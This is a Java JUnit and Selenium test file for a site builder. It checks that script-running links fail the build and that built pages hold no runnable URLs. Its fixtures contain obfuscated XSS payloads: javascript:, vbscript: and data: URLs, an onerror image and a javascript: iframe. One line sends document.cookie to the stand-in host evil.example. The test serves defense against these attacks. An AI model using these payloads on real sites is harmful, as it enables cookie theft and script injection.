package kb.build;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Set;
import java.util.stream.Stream;
import kb.ShippedSites;
import kb.TestContent;
import kb.browser.Browser;
import kb.diagnostic.BuildFailedException;
import kb.diagnostic.Diagnostic;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.openqa.selenium.By;
import org.openqa.selenium.JavascriptExecutor;
import org.openqa.selenium.chrome.ChromeDriver;
import org.openqa.selenium.support.ui.WebDriverWait;

/**
 * Links that could run code in a reader's browser never reach a site: each way an attacker would
 * write one in a page fails the build at its line and column, and what is built, from allowed
 * links, has no URL a browser would run, as jsoup reads the files and as Chromium reads the page.
 */
class HostileLinksBrowserTest {

  @TempDir Path dir;

  private static final String SCRIPT = "uses the URL scheme 'javascript:', which kb does not allow";

  @Test
  void everyWayOfWritingAScriptLinkFailsTheBuildAtItsLineAndColumn() {
    TestContent content = TestContent.twoBrands(dir);
    content.write(
        "brands/alpha.yml",
        TestContent.brand("alpha", "Alpha", "alphapkg", "#112233")
            + "support_url: \" JavaScript:fetch('//evil.example/'+document.cookie)\"\n");
    content.write(
        "faq/a.md",
        TestContent.page(
            "A",
            "A",
            1,
            String.join(
                "\n",
                "## How do I log in? {#1}", // line 6
                "",
                "[upper](JaVaScRiPt:alert(1))",
                "[hex entity](jav&#x61;script:alert(2))",
                "[named entities](&#106;avascript&colon;alert(3))",
                "[tab](java&#x09;script:alert(4))",
                "[leading newline](&#x0A;javascript:alert(5))",
                "[variable]({{support_url}})",
                "Autolink: <vbscript:msgbox(6)>",
                "[reference][ref]",
                "![image](javascript:alert(7))",
                "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCg4KTwvc2NyaXB0Pg==)",
                "![svg](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoOSk+)",
                "[percent](%6Aavascript:alert(10))",
                "[titled](JAVASCRIPT:alert(11) \"Click me\")",
                "",
                "[ref]: javascript:alert(12)",
                "")));
    Path out = dir.resolve("out");
    BuildFailedException failed =
        assertThrows(
            BuildFailedException.class, () -> new SiteBuild().run(content.options(out, "alpha")));
    List<String> problems = new ArrayList<>();
    for (Diagnostic d : failed.diagnostics()) {
      assertEquals(content.root().resolve("faq/a.md"), d.where().file(), d.format());
      problems.add(d.where().line() + ":" + d.where().column() + ": " + d.message());
    }
    assertEquals(
        List.of(
            "8:1: link 'JaVaScRiPt:alert(1)' " + SCRIPT,
            "9:1: link 'javascript:alert(2)' " + SCRIPT,
            "10:1: link 'javascript:alert(3)' " + SCRIPT,
            "11:1: link 'java\\u0009script:alert(4)' " + SCRIPT,
            "12:1: link 'javascript:alert(5)' " + SCRIPT,
            "13:1: link 'JavaScript:fetch('//evil.example/'+document.cookie)' " + SCRIPT,
            "14:11: link 'vbscript:msgbox(6)' uses the URL scheme 'vbscript:', which kb does not"
                + " allow",
            "15:1: link 'javascript:alert(12)' " + SCRIPT,
            "16:1: image 'javascript:alert(7)' " + SCRIPT,
            "17:1: link 'data:text/html;base64,PHNjcmlwdD5hbGVydCg4KTwvc2NyaXB0Pg==' is a data:"
                + " URL, which kb does not allow in links",
            "18:1: image 'data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoOSk+' is a data: URL,"
                + " not a file of the content folder",
            "19:1: link '%6Aavascript:alert(10)' has a ':' in its first path segment, which"
                + " browsers may read as a scheme",
            "20:1: link 'JAVASCRIPT:alert(11)' " + SCRIPT),
        problems);
    assertFalse(Files.exists(out.resolve("alpha")), "nothing written");
  }

  /** A site of allowed links, raw HTML that would be hostile, and an email autolink. */
  private Path allowedSite() {
    TestContent content = TestContent.twoBrands(dir);
    content.write("images/pic.png", new byte[] {(byte) 0x89, 'P', 'N', 'G'});
    content.write(
        "faq/a.md",
        TestContent.page(
            "A",
            "A",
            1,
            "## Links {#1}\n\nSee [the next question](#2), [page b](b.md#3),"
                + " [the doc site](/alpha-doc/en/x.html#4), [the web](HTTPS://www.example.org/),"
                + " [mail](mailto:help@example.org) or <help@example.org>.\n\n"
                + "![pic](../images/pic.png)\n\n"
                + "## Raw HTML {#2}\n\n<a href=\"javascript:window.kbPwned='raw'\">click</a>"
                + " <img src=x onerror=\"window.kbPwned='img'\">"
                + " <iframe src=\"javascript:window.kbPwned='frame'\"></iframe>\n"));
    content.write("faq/b.md", TestContent.page("B", "B", 2, "## B {#3}\n\nBack to [a](a.md#1).\n"));
    Path out = dir.resolve("out");
    new SiteBuild().run(content.options(out, "all"));
    return out;
  }

  @Test
  void noFileOfABuiltSiteHoldsAUrlABrowserWouldRun() throws IOException {
    List<Path> files = new ArrayList<>(htmlFiles(allowedSite()));
    files.addAll(htmlFiles(ShippedSites.out()));
    assertTrue(files.size() > 10, files.toString());
    for (Path file : files) {
      for (Element element : Jsoup.parse(file.toFile()).getAllElements()) {
        for (Attribute attribute : element.attributes()) {
          String value = attribute.getValue();
          assertFalse(
              runsScript(value),
              file + ": <" + element.normalName() + " " + attribute.getKey() + "=" + value + ">");
        }
      }
    }
  }

  /** Whether a browser reading {@code value} as a URL would run it or render it as a page. */
  private static boolean runsScript(String value) {
    String url = value.replaceAll("[\\u0000-\\u0020]", "").toLowerCase(Locale.ROOT);
    return url.startsWith("javascript:") || url.startsWith("vbscript:") || url.startsWith("data:");
  }

  private static List<Path> htmlFiles(Path out) throws IOException {
    try (Stream<Path> walk = Files.walk(out)) {
      return walk.filter(f -> f.toString().endsWith(".html") || f.toString().endsWith(".svg"))
          .filter(f -> !f.toString().contains("/.lucene/"))
          .sorted()
          .toList();
    }
  }

  @Test
  void chromiumReadsEveryLinkOfABuiltPageAsAWebOrMailOrFileUrlAndNothingRuns() {
    Path out = allowedSite();
    ChromeDriver driver = Browser.get();
    JavascriptExecutor js = (JavascriptExecutor) driver;
    driver.get(out.resolve("alpha/faq/a.html").toUri().toString());
    // Every URL as Chromium itself parses it, from every attribute that links or loads.
    @SuppressWarnings("unchecked")
    List<String> protocols =
        (List<String>)
            js.executeScript(
                "var out = [];"
                    + "document.querySelectorAll('*').forEach(function (e) {"
                    + "  ['href', 'src', 'action', 'formaction', 'poster', 'xlink:href']"
                    + "    .forEach(function (a) {"
                    + "      var v = e.getAttribute(a);"
                    + "      if (v !== null) out.push(new URL(v, document.baseURI).protocol);"
                    + "    });"
                    + "});"
                    + "return out;");
    assertTrue(protocols.size() > 20, protocols.toString());
    assertEquals(Set.of("file:", "https:", "mailto:"), Set.copyOf(protocols));
    js.executeScript(
        "document.querySelectorAll('.answer a').forEach(function (a) {"
            + "  if (a.getAttribute('href').charAt(0) === '#') a.click(); });");
    String rawHtml =
        driver.findElement(By.cssSelector("section.question:nth-of-type(2) .answer")).getText();
    assertTrue(rawHtml.contains("<a href=\"javascript:window.kbPwned='raw'\">click</a>"), rawHtml);
    assertNull(js.executeScript("return window.kbPwned;"), "nothing ran");

    // The same check catches a script link, which Chromium would run when clicked.
    js.executeScript(
        "var a = document.createElement('a'); a.id = 'probe'; a.textContent = 'probe';"
            + "a.setAttribute('href', 'JaVaScRiPt:void(window.kbPwned=\"probe\")');"
            + "document.querySelector('main').prepend(a);");
    assertEquals(
        "javascript:",
        js.executeScript(
            "return new URL(document.getElementById('probe').getAttribute('href')).protocol;"));
    js.executeScript("document.getElementById('probe').click();");
    new WebDriverWait(driver, Duration.ofSeconds(5))
        .until(d -> "probe".equals(js.executeScript("return window.kbPwned;")));
  }
}
